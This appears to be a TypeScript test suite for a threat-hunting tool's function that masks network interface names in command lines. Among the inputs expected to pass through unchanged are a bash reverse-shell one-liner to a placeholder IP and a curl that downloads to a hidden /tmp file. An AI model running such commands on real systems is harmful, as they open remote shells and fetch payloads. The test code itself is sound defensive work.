import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { INTERFACE_MASK, INTERFACE_NAME_REGEX, INTERFACE_NAME_SCHEMES, maskInterfaceNames } from '../functions/core/hunts/interface-names';

/** The contexts NetworkManager's scripts and their children put an interface name in. */
const CONTEXTS: ((name: string) => { text: string; masked: string })[] = [
  (n) => ({ text: `/bin/bash /etc/NetworkManager/dispatcher.d/99-vpn-routes ${n} up`, masked: `/bin/bash /etc/NetworkManager/dispatcher.d/99-vpn-routes ${INTERFACE_MASK} up` }),
  (n) => ({ text: `ip route replace 10.20.0.0/16 dev ${n} metric 50`, masked: `ip route replace 10.20.0.0/16 dev ${INTERFACE_MASK} metric 50` }),
  (n) => ({ text: `logger -t 99-vpn-routes routes for ${n} installed`, masked: `logger -t 99-vpn-routes routes for ${INTERFACE_MASK} installed` }),
  (n) => ({ text: `run-parts --arg=${n} --arg=up /etc/dhcp/dhclient-exit-hooks.d`, masked: `run-parts --arg=${INTERFACE_MASK} --arg=up /etc/dhcp/dhclient-exit-hooks.d` }),
  (n) => ({ text: `sh -c "ethtool -K '${n}' gro off"`, masked: `sh -c "ethtool -K '${INTERFACE_MASK}' gro off"` }),
  (n) => ({ text: `ping -c1 fe80::1%${n}`, masked: `ping -c1 fe80::1%${INTERFACE_MASK}` }),
  (n) => ({ text: `nmcli dev set ${n},managed`, masked: `nmcli dev set ${INTERFACE_MASK},managed` }),
  (n) => ({ text: `${n}`, masked: INTERFACE_MASK }),
  (n) => ({ text: `tc qdisc add dev ${n}.100 root fq`, masked: `tc qdisc add dev ${INTERFACE_MASK} root fq` }),
];

describe('interface-name masking', () => {
  for (const scheme of INTERFACE_NAME_SCHEMES) {
    it(`masks every example of ${scheme.scheme} in every context`, () => {
      for (const name of scheme.examples) {
        for (const context of CONTEXTS) {
          const { text, masked } = context(name);
          assert.equal(maskInterfaceNames(text), masked, text);
        }
      }
    });
  }

  it('makes the renamed tunnel of the issue one child: tun0 and tun1 mask alike', () => {
    assert.equal(maskInterfaceNames('ip route replace 10.20.0.0/16 dev tun1 metric 50'), maskInterfaceNames('ip route replace 10.20.0.0/16 dev tun0 metric 50'));
    assert.equal(maskInterfaceNames('logger -t 99-vpn-routes routes for tun1 installed'), maskInterfaceNames('logger -t 99-vpn-routes routes for tun0 installed'));
  });

  it('never masks addresses, URLs, paths, host names or payload text', () => {
    const untouched = [
      "bash -c 'bash -i >& /dev/tcp/203.0.113.66/4444 0>&1'",
      'cat /dev/tun0',
      'cat /sys/class/net/eth0/address',
      'curl http://eth0.example.com/x',
      'curl -fsSL http://tun0/s2 -o /tmp/.s2',
      'ssh eth0.internal',
      'ping 10.0.0.1',
      'ping fe80::1',
      'echo ethernet tunnel wget vethernet bridge',
      'echo eth tun wg ppp br- veth docker virbr vnet',
      'echo eth0x tun0a wg3b enp0s3z',
      'echo br-lan br-3f9a0c1d2e4 br-3f9a0c1d2e4bz',
      'echo enx00e04c68a1b enxZZe04c68a1b2 ETH0 Tun0',
      '/etc/NetworkManager/dispatcher.d/01-ifupdown x.sh',
      'python3 /usr/lib/NetworkManager/dispatcher.d/eth0-hook.py',
      'echo user=eth0user',
      'echo a-eth0 a_eth0 a.eth0',
    ];
    for (const text of untouched) assert.equal(maskInterfaceNames(text), text, text);
  });

  it('uses only regular-expression syntax Java and JavaScript read alike', () => {
    assert.doesNotMatch(INTERFACE_NAME_REGEX, /\\s|\\S|\(\?[imsux-]+[):]|\\[pPhHvVRXzZ]|[*+?]\+|\(\?<[a-zA-Z]/, 'no \\s, inline flags, Unicode classes, possessive quantifiers or named groups');
    assert.doesNotThrow(() => new RegExp(INTERFACE_NAME_REGEX, 'g'));
    // Lookbehinds are one character wide: Java requires a bounded width.
    for (const lookbehind of INTERFACE_NAME_REGEX.matchAll(/\(\?<!(\[[^\]]+\])\)/g)) assert.ok(lookbehind[1]!.startsWith('[^'));
  });

  it('costs linear time on long hostile text', () => {
    const hostile = `${'eth0'.repeat(50_000)} ${'enp0s3f'.repeat(20_000)} ${'a '.repeat(100_000)}`;
    assert.equal(maskInterfaceNames(hostile).length > 0, true);
  });
});
